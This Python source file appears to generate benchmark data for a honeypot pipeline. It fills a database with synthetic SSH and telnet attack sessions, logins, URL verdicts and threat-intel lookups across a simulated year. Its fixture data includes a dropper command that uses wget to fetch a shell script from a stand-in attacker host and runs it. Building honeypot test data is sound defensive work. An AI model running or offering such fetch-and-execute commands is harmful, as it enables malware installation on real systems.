"""A store of the size of a busy year: one day taken in by the real intake, and copies made inside the database."""

from __future__ import annotations

import hashlib
import json
import random
import sys
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any, cast

from sqlalchemy import Connection, event, func, insert, literal_column, select, text, update

from urltrap.judge import Evidence
from urltrap.judge.publication import Policy, for_everyone
from urltrap.model.event import (
    ClientIdentified,
    CommandEntered,
    Connected,
    Disconnected,
    EventBase,
    LoginTried,
    ProgramRun,
    TerminalFrames,
    TerminalRequested,
    Uploaded,
)
from urltrap.model.ids import new_ulid
from urltrap.model.settings import Settings
from urltrap.model.sighting import Recovered
from urltrap.model.verdict import Place, VerdictName
from urltrap.pipeline.judging import policy_of
from urltrap.pipeline.showings import Showings, load_showings
from urltrap.pipeline.workshop import Workshop
from urltrap.store import Store, spans, words
from urltrap.store.bulk import insert_rows
from urltrap.store.intake import ingest
from urltrap.store.rollups import EVER, tally_key
from urltrap.store.schema import (
    addresses,
    artifacts,
    captures,
    daily,
    facts,
    hourly,
    jobs,
    missing,
    places,
    sessions,
    tallies,
    urls,
    verdicts,
    watermarks,
)
from urltrap.store.schema_intel import lookups, names
from urltrap.store.schema_public import publications
from urltrap.store.sightings import Seen, save_sightings
from urltrap.store.types import DAY, to_micros

DAYS = 100
END = datetime(2026, 11, 24, 12, tzinfo=UTC)
SESSIONS = 10_000
"""Sessions of a day at full size."""

_GROUPS = 20  # a copy's addresses are those of every twentieth other one
_SUFFIXES = 50  # and half of its passwords, of every fiftieth
_URLS = 25
COPIED = (
    "attacker_sessions",
    "events",
    "logins",
    "commands",
    "program_runs",
    "files",
    "recordings",
    "sightings",
)
_START = (END - timedelta(days=1)).replace(hour=0)
_COUNTRIES = ("CN", "US", "DE", "VN", "BR", "RU", "IN", "NL", "KR", "FR", "ID", "AR", "ZA", "")

_HASSH = [hashlib.md5(b"%d" % n).hexdigest() for n in range(12)]


def fill(store: Store, scale: float) -> None:
    """Fill an empty store; one that is full of this scale already is left as it is."""
    mark = f"{scale:g}"
    with store.connect() as connection:
        there = connection.execute(select(facts.c.value).where(facts.c.name == "bench.scale")).scalar()
        count = connection.execute(select(func.count()).select_from(sessions)).scalar_one()
    if there == mark:
        return
    if count:
        raise SystemExit("the database holds something else; name an empty one")
    say = Progress()
    day = Day(store, max(200, int(SESSIONS * scale)))
    say("one day taken in")
    with hurried(store):
        for number in range(1, DAYS):
            copy(store, day, number)
            if number % 10 == 0:
                say(f"{number + 1} days")
        derive(store, day)
        with store.begin() as connection:
            connection.execute(daily.delete())
            day_of = literal_column(f"hour - hour % {DAY}").label("day")
            hours = select(day_of, hourly.c.sensor, hourly.c.what, func.sum(hourly.c.n))
            connection.execute(
                insert(daily).from_select(
                    ["day", "sensor", "what", "n"], hours.group_by(day_of, hourly.c.sensor, hourly.c.what)
                )
            )
        spans.roll(store, END)
        words.roll(store, END)
        say("figures, URLs, look-ups")
    say("indexes")
    say(f"{publish(store):,} URLs for everyone")
    with store.begin() as connection:
        connection.execute(insert(facts).values(name="bench.scale", value=mark))
    with store.engine.connect() as connection:
        if store.dialect == "postgresql":  # which does it by itself within minutes
            connection.execution_options(isolation_level="AUTOCOMMIT").exec_driver_sql("VACUUM ANALYZE")
        else:
            connection.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    say("tidied")


@contextmanager
def hurried(store: Store) -> Iterator[None]:
    """Without indexes, which are made at the end, and without waiting for the disk: it need not survive a crash."""

    def connected(connection: Any, _record: object) -> None:
        cursor = connection.cursor()
        cursor.execute(
            "PRAGMA synchronous=OFF" if store.dialect == "sqlite" else "SET synchronous_commit = off"
        )
        cursor.close()
        if store.dialect != "sqlite":
            connection.commit()

    indexes = [index for name in COPIED for index in sessions.metadata.tables[name].indexes]
    store.engine.dispose()
    event.listen(store.engine, "connect", connected)
    try:
        with store.begin() as connection:
            for index in indexes:
                index.drop(connection)
        yield
        for index in indexes:
            with store.begin() as connection:
                index.create(connection)
    finally:
        event.remove(store.engine, "connect", connected)
        store.engine.dispose()


class Progress:
    """Tells on standard error how far it is."""

    def __init__(self) -> None:
        self._began = time.perf_counter()

    def __call__(self, words: str) -> None:
        print(f"{time.perf_counter() - self._began:6.1f} s  {words}", file=sys.stderr)


class Day:
    """The newest day, by the real intake."""

    def __init__(self, store: Store, count: int) -> None:
        self.dice = random.Random(11)
        self.count = count
        self.commands = [
            b"cd /tmp; wget http://203.0.113.%d/bins/%d.sh; sh %d.sh" % (n % 250, n, n) for n in range(1200)
        ]
        self.commands += [b"uname -a", b"nproc", b"cat /proc/cpuinfo | grep name | wc -l", b"free -m"] * 100
        self.commands += [b"echo rare-command-of-a-few"]
        self.addresses = [
            f"9.{n % 200}.{n // 200 % 250}.{n * 7 % 250}" for n in range(max(100, count * 3 // 10))
        ]
        batch: list[EventBase] = []
        seen: list[Seen] = []
        for number in range(count):
            batch += self._session(number, seen)
            if len(batch) > 4000 or number == count - 1:
                ingest(store, "trap-0", batch, (1, number))
                batch = []
        for start in range(0, len(seen), 500):
            with store.begin() as connection:
                save_sightings(connection, seen[start : start + 500])
        with store.connect() as connection:
            self.ids = list(connection.execute(select(sessions.c.id).order_by(sessions.c.id)).scalars())
            mine = tallies.c.what.not_in(
                ("country", "network")
            )  # which derive() counts, as it places addresses
            self.tallies = connection.execute(select(tallies).where(tallies.c.day > EVER, mine)).all()
            self.urls = connection.execute(select(urls)).mappings().all()

    def _session(self, number: int, seen: list[Seen]) -> Iterator[EventBase]:
        dice = self.dice
        at = _START + timedelta(seconds=number * 86_000 / self.count)
        id_ = new_ulid(int(at.timestamp() * 1000), number.to_bytes(10, "big"))
        sensor = "telnet" if dice.random() < 0.2 else "ssh"
        source = self.addresses[int(len(self.addresses) * dice.random() ** 2)]
        seq = 0

        def made(kind: type[EventBase], **values: Any) -> EventBase:
            nonlocal seq
            seq += 1
            return kind(session=id_, seq=seq - 1, at=at + timedelta(seconds=seq), **values)

        yield made(
            Connected,
            sensor=sensor,
            protocol=sensor,
            src_ip=source,
            src_port=40_000,
            dst_ip="192.0.2.5",
            dst_port=22,
        )
        yield made(ClientIdentified, version=b"SSH-2.0-Go", hassh=_HASSH[int(12 * dice.random() ** 3)])
        what = dice.choices(
            ("probe", "brute", "login", "shell", "dropper", "upload"), (8, 40, 12, 18, 20, 2)
        )[0]
        tries = 0 if what == "probe" else dice.randint(3, 9) if what == "brute" else dice.randint(1, 3)
        for n in range(tries):
            user = dice.choices((b"root", b"admin", b"user%d" % dice.randrange(300)), (6, 1, 3))[0]
            word = (
                b"a-rare-one"
                if number % 5000 == 7
                else b"123456"
                if dice.random() < 0.03
                else b"pw%d" % int(9000 * dice.random() ** 2)
            )
            yield made(
                LoginTried,
                method="password",
                username=user,
                password=word,
                accepted=what != "brute" and n == tries - 1,
            )
        if what in ("shell", "dropper", "upload"):
            yield made(TerminalRequested, term=b"xterm", columns=100, rows=30)
            for _ in range(dice.randint(2, 5)):
                line = dice.choice(self.commands)
                yield made(CommandEntered, mode="exec", text=line)
                place = seq - 1
                yield made(
                    ProgramRun,
                    argv=line.split()[:2],
                    path="/bin/x",
                    outcome="ran" if dice.random() < 0.9 else "not-found",
                )
                if what == "dropper" and b"wget " in line:
                    raw = line.split()[3].rstrip(b";")
                    begin = line.index(raw)
                    item = Recovered(
                        url=raw.decode(),
                        raw=raw,
                        span=(begin, begin + len(raw)),
                        method="word",
                        chain=[],
                        client="wget",
                        confidence=95,
                    )
                    seen.append(Seen(id_, place, at, sensor, source, [item]))
            yield made(TerminalFrames, frames=[(9 * n, "o", b"x" * 40) for n in range(6)])
        if what == "upload":
            yield made(
                Uploaded,
                via="scp",
                path=b"/tmp/x",
                size=9,
                sha256=hashlib.sha256(b"%d" % (number % 40)).hexdigest(),
            )
        yield made(Disconnected, reason="client", duration_ms=9000)


def other_word(word: bytes, number: int) -> bytes:
    """What copy `number` has for a password."""
    return word + b"_%d" % (number % _SUFFIXES) if len(word) % 2 == 0 and word != b"123456" else word


def other_address(address: str, number: int) -> str:
    """What copy `number` has for an address."""
    return f"{20 + number % _GROUPS}{address[1:]}"


def other_url(key: str, number: int) -> str:
    """What copy `number` has for a URL's key."""
    return f"{key[:62]}{number % _URLS:02x}"


def copy(store: Store, day: Day, number: int) -> None:
    """The day again, `number` days earlier."""
    shift = -number * DAY
    blob = store.dialect == "sqlite"
    new = []
    for place, _ in enumerate(day.ids):
        moment = _START - timedelta(days=number) + timedelta(seconds=place * 86_000 / day.count)
        new.append(new_ulid(int(moment.timestamp() * 1000), (number << 40 | place).to_bytes(10, "big")))
    suffix = b"_%d" % (number % _SUFFIXES)

    def word(column: str) -> str:
        joined = f"CAST(o.{column} || :suffix AS BLOB)" if blob else f"o.{column} || :suffix"
        rare = "CAST('123456' AS BLOB)" if blob else "'123456'::bytea"
        return (
            f"CASE WHEN length(o.{column}) % 2 = 0 AND o.{column} <> {rare} THEN {joined} ELSE o.{column} END"
        )

    address = "CAST(:octet AS TEXT) || substr(o.src_ip, 2)"
    changed: dict[str, dict[str, str]] = {
        "attacker_sessions": {
            "id": "c.new",
            "started": "o.started + :shift",
            "ended": "o.ended + :shift",
            "src_ip": address,
            "password": word("password"),
        },
        "logins": {"password": word("password")},
        "sightings": {"url_key": "substr(o.url_key, 1, 62) || :url", "src_ip": address},
    }
    with store.begin() as connection:
        connection.exec_driver_sql(
            "CREATE TEMPORARY TABLE copies (old VARCHAR(40) PRIMARY KEY, new VARCHAR(40))"
        )
        values = {
            "shift": shift,
            "suffix": suffix,
            "octet": str(20 + number % _GROUPS),
            "url": f"{number % _URLS:02x}",
        }
        connection.execute(
            text("INSERT INTO copies VALUES (:old, :new)"),
            [{"old": old, "new": made} for old, made in zip(day.ids, new, strict=True)],
        )
        for name in COPIED:
            table = sessions.metadata.tables[name]
            key = "id" if name == "attacker_sessions" else "session"
            columns = {column.name: f"o.{column.name}" for column in table.columns}
            columns[key] = "c.new"
            if "at" in columns:
                columns["at"] = "o.at + :shift"
            columns |= changed.get(name, {})
            quote = connection.dialect.identifier_preparer.quote
            statement = (
                f"INSERT INTO {name} ({', '.join(quote(column) for column in columns)}) "
                f"SELECT {', '.join(columns.values())} FROM copies c JOIN {name} o ON o.{key} = c.old ORDER BY c.new"
            )
            used = {key: value for key, value in values.items() if f":{key}" in statement}
            connection.execute(text(statement), used)
        connection.execute(
            text(
                "INSERT INTO hourly (hour, sensor, what, n) "
                "SELECT hour + :shift, sensor, what, n FROM hourly WHERE hour >= :from_"
            ),
            {"shift": shift, "from_": to_micros(_START)},
        )
        connection.exec_driver_sql("DROP TABLE copies")
        counted = []
        for row in day.tallies:
            value, second = other_tally(row, number)
            counted.append(
                {
                    "day": row.day - timedelta(days=number),
                    "what": row.what,
                    "key": tally_key(value, second),
                    "value": value,
                    "second": second,
                    "n": row.n,
                }
            )
        insert_rows(connection, tallies, counted)


def other_tally(row: Any, number: int) -> tuple[bytes, bytes]:
    """What copy `number` counts where the day counts this."""
    value, second = row.value, row.second
    if row.what == "password":
        value = other_word(value, number)
    elif row.what == "pair":
        second = other_word(second, number)
    elif row.what == "address":
        value = other_address(value.decode(), number).encode()
    elif row.what == "url":
        value = other_url(value.decode(), number).encode()
    return value, second


def derive(store: Store, day: Day) -> None:
    """What intake keeps over all days, and what the pipeline makes of URLs and addresses."""
    dice = random.Random(3)
    ever: Counter[tuple[str, bytes, bytes]] = Counter()
    sources: Counter[str] = Counter()
    by_day: Counter[tuple[datetime, str]] = Counter()
    for number in range(DAYS):
        for row in day.tallies:
            value, second = other_tally(row, number) if number else (row.value, row.second)
            ever[row.what, value, second] += row.n
            if row.what == "address":
                sources[value.decode()] += row.n
                by_day[row.day - timedelta(days=number), value.decode()] += row.n
    where = {address: _place(address) for address in sources}
    with store.begin() as connection:
        connection.execute(tallies.delete().where(tallies.c.day == EVER))
        insert_rows(
            connection,
            tallies,
            [
                {
                    "day": EVER,
                    "what": what,
                    "key": tally_key(value, second),
                    "value": value,
                    "second": second,
                    "n": n,
                }
                for (what, value, second), n in ever.items()
            ],
        )
        connection.execute(update(missing).values(n=missing.c.n * DAYS, sessions=missing.c.sessions * DAYS))
        _addresses(connection, sources, where)
        counted: Counter[tuple[datetime, str, int]] = Counter()
        for (moment, address), n in by_day.items():
            country, asn = where[address]
            counted[moment, country, asn] += n
            counted[EVER, country, asn] += n
        connection.execute(tallies.delete().where(tallies.c.what.in_(("country", "network"))))
        by_place: Counter[tuple[datetime, str, bytes]] = Counter()
        for (moment, country, asn), n in counted.items():
            by_place[moment, "country", country.encode()] += n
            by_place[moment, "network", b"%d" % asn] += n
        insert_rows(
            connection,
            tallies,
            [
                {"day": moment, "what": what, "key": tally_key(value), "value": value, "second": b"", "n": n}
                for (moment, what, value), n in by_place.items()
            ],
        )
        connection.execute(places.delete())
        insert_rows(
            connection,
            places,
            [
                {"day": moment, "country": country, "asn": asn, "n": n}
                for (moment, country, asn), n in counted.items()
            ],
        )
        connection.execute(
            watermarks.update().values(events=watermarks.c.events * DAYS, last_at=END - timedelta(seconds=9))
        )
    with store.begin() as connection:
        _urls(connection, day, dice)


def _place(address: str) -> tuple[str, int]:
    number = int(hashlib.md5(address.encode()).hexdigest()[:8], 16)
    if number % 4000 == 1:
        return "IS", 64_999  # a handful
    country = _COUNTRIES[number % 97 % len(_COUNTRIES)]
    return country, 64_500 + number % 300 if country else 0


def _addresses(connection: Connection, sources: Counter[str], where: dict[str, tuple[str, int]]) -> None:
    connection.execute(addresses.delete())
    insert_rows(
        connection,
        addresses,
        [
            {
                "address": address,
                "first_seen": END - timedelta(days=90),
                "last_seen": END - timedelta(hours=n % 2000),
                "sessions": n,
                "shed": 0,
                "country": where[address][0],
                "city": "",
                "latitude": None,
                "longitude": None,
                "asn": where[address][1] or None,
                "network": f"Network {where[address][1]}",
                "place_sources": [],
                "place_version": "x",
            }
            for address, n in sources.items()
        ],
    )
    insert_rows(
        connection,
        names,
        [
            {
                "address": address,
                "name": f"host.{n % 3000}.example",
                "confirmed": n % 3 == 0,
                "domain": f"{n % 3000}.example" if n % 5 else "",
                "at": END,
                "expires": END,
            }
            for n, address in enumerate(sources)
        ],
    )


class _Networks:
    """Where the crowd's addresses are, as a pipeline would ask."""

    def find(self, address: str) -> Place:
        country, asn = _place(address)
        return Place(country=country, asn=asn or None)


def publish(store: Store) -> int:
    """Keep what is for everyone, by the gate that the pipeline has and the sightings that are there; how many URLs."""
    settings = Settings()
    policy = policy_of(settings)
    workshop = cast(Workshop, SimpleNamespace(places=_Networks(), is_operator=lambda address: False))
    done = 0
    with store.begin() as connection:
        rows = connection.execute(select(urls).where(urls.c.verdict.like("malicious-%"))).mappings().all()
        for start in range(0, len(rows), 500):
            part = {row["key"]: row for row in rows[start : start + 500]}
            showings = load_showings(workshop, connection, part)
            made = [shown for key, row in part.items() if (shown := _shown(row, showings[key], policy))]
            insert_rows(connection, publications, made)
            done += len(made)
    return done


def _shown(row: Any, showings: Showings, policy: Policy) -> dict[str, Any] | None:
    evidence = Evidence(
        url=row["url"], host=row["host"], port=row["port"], scheme=row["scheme"], raw_address=True,
        first_seen=row["first_seen"], secret=row["key"], sources=row["sources"], held=row["held"],
        shown_first=showings.first, shown_days=showings.days,
    )  # fmt: skip
    found = for_everyone(evidence, cast(VerdictName, row["verdict"]), policy)
    if found is None:
        return None
    told = {
        "verdict": row["verdict"], "confidence": row["confidence"], "reasons": ["payload"], "delivery": "ssh wget",
        "techniques": ["T1105"],
    }  # fmt: skip
    return {
        "url_key": row["key"], "after": found.after, "first": found.first, "last": found.last,
        "told": json.dumps(told, separators=(",", ":")),
    }  # fmt: skip


def _urls(connection: Connection, day: Day, dice: random.Random) -> None:
    verdict_of = ("malicious-confirmed", "malicious-observed", "suspicious", "benign-context", "unknown")
    connection.execute(jobs.delete())
    insert_rows(
        connection,
        jobs,
        [
            {
                "stage": "look_up",
                "subject": f"{n}",
                "due": END + timedelta(hours=1),
                "attempts": 0,
                "error": "",
            }
            for n in range(2000)
        ],
    )
    made, judged, tried, asked = [], [], [], []
    shas = [hashlib.sha256(b"payload %d" % n).hexdigest() for n in range(5000)]
    connection.execute(urls.delete())
    for row in day.urls:
        for number in range(_URLS):
            key = other_url(row["key"], number)
            verdict, sha = dice.choice(verdict_of), dice.choice(shas)
            seen = END - timedelta(days=number, seconds=dice.randrange(80_000))
            malicious = verdict.startswith("malicious-")
            made.append(
                {
                    **row,
                    "key": key,
                    "url": f"{row['url']}?{number}",
                    "last_seen": seen,
                    "sightings": row["sightings"] * 4,
                    "sources": row["sources"] * 4,
                    "verdict": verdict,
                    "confidence": 90 if malicious else 10,
                    "sha256": sha,
                    "kind": dice.choice(("elf", "script")),
                    "captured_at": seen,
                    "outcome": "fetched",
                    "publish_after": seen if malicious else None,
                    "published_at": seen if malicious else None,
                }
            )
            judged.append(
                {
                    "url_key": key,
                    "verdict": verdict,
                    "confidence": 90 if malicious else 10,
                    "at": seen,
                    "rules": "1",
                    "reasons": [{"code": "payload", "text": "an ELF file", "weight": 90}],
                    "publish_after": seen if malicious else None,
                    "classes": None,
                }
            )
            tried.append(
                {
                    "session": f"F{number}",
                    "seq": len(tried),
                    "url_key": key,
                    "at": seen,
                    "outcome": "fetched",
                    "status": 200,
                    "sha256": sha,
                    "size": 900,
                    "complete": True,
                    "for_session": "",
                    "purpose": "attack",
                    "body": b'{"url":"http://203.0.113.1/x","at":"2026-11-24T00:00:00Z","client":"wget","outcome":"fetched"}',
                }
            )
            asked += [
                {
                    "provider": name,
                    "subject_kind": "url",
                    "subject_sha256": key,
                    "subject": f"{row['url']}?{number}",
                    "priority": 2,
                    "state": "done" if place else "later",
                    "due": END,
                    "wanted": END,
                    "attempts": 0,
                    "negatives": 0,
                    "worker": "",
                    "asked": seen,
                    "error": "",
                }
                for place, name in enumerate(("urlhaus", "threatfox", "virustotal"))
            ]
    columns = [column.name for column in urls.c]
    insert_rows(connection, urls, [{name: row[name] for name in columns} for row in made])
    insert_rows(connection, verdicts, judged)
    insert_rows(connection, captures, tried)
    insert_rows(connection, lookups, asked)
    there = set(connection.execute(select(artifacts.c.sha256)).scalars())
    insert_rows(
        connection,
        artifacts,
        [
            {
                "sha256": sha,
                "size": 900,
                "complete": True,
                "first_seen": END - timedelta(days=n % 90),
                "times": 3,
                "last_seen": END - timedelta(minutes=n),
                "via": "capture",
                "md5": "",
                "sha1": "",
                "mime": "application/x-executable",
                "description": "ELF",
                "kind": "",
                "architecture": "",
                "analysis": {},
            }
            for n, sha in enumerate(shas)
            if sha not in there
        ],
    )
